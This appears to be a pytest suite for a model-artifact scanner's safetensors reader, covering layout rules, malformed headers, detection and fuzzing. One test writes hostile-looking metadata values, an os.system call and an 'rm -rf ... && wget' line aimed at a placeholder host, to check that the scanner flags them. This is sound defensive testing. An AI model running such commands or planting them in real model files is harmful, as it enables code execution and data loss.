"""Safetensors headers: files from the real writer are clean, every layout rule is enforced on
hand-built ones, and random or mutated bytes never make the reader raise."""

from __future__ import annotations

import json
import struct
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from safetensors.numpy import save

from airlock.artifact import ArtifactFile
from airlock.findings import Finding, Location, Severity
from airlock.scan.context import Blob, Kind
from airlock.scan.formats.detect import detect
from airlock.scan.formats.safetensors_reader import SafetensorsReader
from airlock.scan.scanner import Scanner, _Context

CORPUS = (
    Path(__file__).resolve().parents[4]
    / "shared/corpora/peer-samples/modelaudit/tests/assets/samples/safetensors"
)


def scan(tmp_path: Path, data: bytes, name: str = "model.safetensors") -> list[Finding]:
    path = tmp_path / name
    path.write_bytes(data)
    result = Scanner().scan_file(ArtifactFile(path, name))
    assert result.kind == Kind.SAFETENSORS.value
    return list(result.findings)


def build(header: dict[str, Any], data: bytes, raw_header: bytes | None = None) -> bytes:
    encoded = raw_header if raw_header is not None else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded)) + encoded + data


def tensor(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def rules(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


def real_file() -> bytes:
    return save(
        {
            "weight": np.arange(12, dtype=np.float32).reshape(3, 4),
            "bias": np.ones(4, dtype=np.float16),
            "steps": np.zeros((), dtype=np.int64),
            "empty": np.zeros((0, 5), dtype=np.uint8),
        },
        metadata={"format": "pt"},
    )


def test_real_writer_output_is_clean(tmp_path: Path) -> None:
    # {"format": "pt"} is what writers add by themselves: not even an info line.
    assert scan(tmp_path, real_file()) == []


def test_other_metadata_is_reported_as_info(tmp_path: Path) -> None:
    data = save({"x": np.zeros(3, dtype=np.float32)}, metadata={"format": "pt", "author": "a"})
    findings = scan(tmp_path, data)
    assert rules(findings) == {"AIR402"}
    assert all(f.severity == Severity.INFO for f in findings)


def test_without_metadata_there_are_no_findings(tmp_path: Path) -> None:
    data = save({"x": np.zeros(3, dtype=np.float32)})
    assert scan(tmp_path, data) == []


def test_every_known_dtype_is_accepted(tmp_path: Path) -> None:
    # (dtype, elements, bytes): F4 packs two elements a byte, F6 four in three bytes.
    cases = [("F4", 2, 1), ("F6_E2M3", 4, 3), ("F6_E3M2", 4, 3), ("F8_E8M0", 4, 4)]
    cases += [("BF16", 4, 8), ("BOOL", 4, 4), ("F8_E4M3", 1, 1), ("U64", 1, 8)]
    header, offset = {}, 0
    for dtype, elements, length in cases:
        header[dtype] = tensor(dtype, [elements], offset, offset + length)
        offset += length
    assert scan(tmp_path, build(header, b"\0" * offset)) == []


@pytest.mark.parametrize(
    ("header", "data", "expected"),
    [
        ({"a": tensor("F32", [2], 0, 8), "b": tensor("F32", [2], 4, 12)}, 12, "overlap"),
        ({"a": tensor("F32", [2], 0, 8), "b": tensor("F32", [2], 16, 24)}, 24, "belong to no"),
        ({"a": tensor("F32", [3], 0, 8)}, 16, "disagrees"),
        ({"a": tensor("F32", [2], 0, 8)}, 12, "bytes after the last tensor"),
        ({"a": tensor("F33", [2], 0, 8)}, 8, "unknown dtype"),
        ({"a": tensor("F32", [-2], 0, 8)}, 8, "shape"),
        ({"a": tensor("F32", [2], 8, 0)}, 8, "data_offsets"),
        ({"a": tensor("F32", [2], 0, 8000)}, 8, "past the end"),
        ({"a": tensor("F32", [10**300, 10**300], 0, 8)}, 8, "more bytes than the file"),
        ({"a": tensor("F4", [3], 0, 1)}, 2, "whole bytes"),
        ({"a": "not a tensor"}, 0, "not a tensor description"),
        ({"__metadata__": {"k": 1}}, 0, "strings to strings"),
    ],
)
def test_layout_violations(
    tmp_path: Path, header: dict[str, Any], data: int, expected: str
) -> None:
    findings = [f for f in scan(tmp_path, build(header, b"\0" * data)) if f.rule_id == "AIR401"]
    assert findings, header
    assert any(expected in f.message for f in findings), [f.message for f in findings]
    assert all(f.severity == Severity.MEDIUM for f in findings)


def test_duplicate_keys_are_reported(tmp_path: Path) -> None:
    raw = (
        b'{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},'
        b' "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}'
    )
    findings = scan(tmp_path, build({}, b"\0" * 4, raw))
    assert any(f.rule_id == "AIR401" and "repeats" in f.message for f in findings)


@pytest.mark.parametrize(
    "data",
    [
        struct.pack("<Q", 10**6) + b"{" + b" " * 100,  # header longer than the file
        struct.pack("<Q", 2) + b"{]",  # not JSON
        struct.pack("<Q", 2) + b"[]",  # not an object (detected by name below)
        struct.pack("<Q", 4) + b'{"\xff"',  # not UTF-8
    ],
)
def test_unparseable_headers_are_air001(data: bytes) -> None:
    findings = list(SafetensorsReader().scan(Blob(data, "x", Location(), "x"), _ctx()))
    assert rules(findings) == {"AIR001"}


def test_absurd_header_length_allocates_nothing() -> None:
    data = struct.pack("<Q", 2**63) + b"{}"
    start = time.perf_counter()
    findings = list(SafetensorsReader().scan(Blob(data, "x", Location(), "x"), _ctx()))
    assert rules(findings) == {"AIR001"}
    assert time.perf_counter() - start < 1


def test_detection_needs_a_plausible_length_and_a_brace() -> None:
    assert detect(real_file()[:4096], "anything") is Kind.SAFETENSORS
    assert detect(struct.pack("<Q", 200_000_000) + b"{}", "x.safetensors") is not Kind.SAFETENSORS
    assert detect(struct.pack("<Q", 5) + b"[1,2]", "x.safetensors") is not Kind.SAFETENSORS


def test_suspicious_metadata_is_low_never_higher(tmp_path: Path) -> None:
    data = save(
        {"x": np.zeros(1, dtype=np.float32)},
        metadata={
            "init": "import os; os.system('id')",
            "url": "https://example.invalid/payload",
            "shell": "rm -rf /tmp/x && wget http://example.invalid",
            "description": "A model with an import statement in prose",
        },
    )
    findings = scan(tmp_path, data)
    flagged = {f.message.split("`")[1] for f in findings if f.rule_id == "AIR403"}
    assert flagged == {"init", "url", "shell"}
    assert max(f.severity for f in findings) == Severity.LOW


@pytest.mark.skipif(not CORPUS.is_dir(), reason="peer-samples corpus not present")
def test_peer_corpus() -> None:
    labels = json.loads((CORPUS.parents[4] / "labels.json").read_text())
    for path in sorted(CORPUS.glob("*.safetensors")):
        label = labels[f"modelaudit/tests/assets/samples/safetensors/{path.name}"]
        findings = Scanner().scan_file(ArtifactFile(path, path.name)).findings
        worst = max(f.severity for f in findings)
        assert rules(list(findings)) <= {"AIR402", "AIR403"}, path.name
        assert worst == (Severity.INFO if label == "benign" else Severity.LOW), path.name


def _ctx() -> _Context:
    return _Context(Scanner(), "x")


SEED = real_file()


@settings(
    max_examples=300,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    st.one_of(
        st.binary(max_size=200),
        st.lists(st.tuples(st.integers(0, len(SEED) - 1), st.integers(0, 255)), max_size=8).map(
            lambda edits: _mutate(SEED, edits)
        ),
        st.integers(0, len(SEED)).map(lambda cut: SEED[:cut]),
    )
)
def test_fuzz_never_raises(data: bytes) -> None:
    start = time.perf_counter()
    findings = list(SafetensorsReader().scan(Blob(data, "f", Location(), "f"), _ctx()))
    assert all(isinstance(f, Finding) for f in findings)
    assert time.perf_counter() - start < 1


def _mutate(seed: bytes, edits: list[tuple[int, int]]) -> bytes:
    data = bytearray(seed)
    for position, value in edits:
        data[position] = value
    return bytes(data)
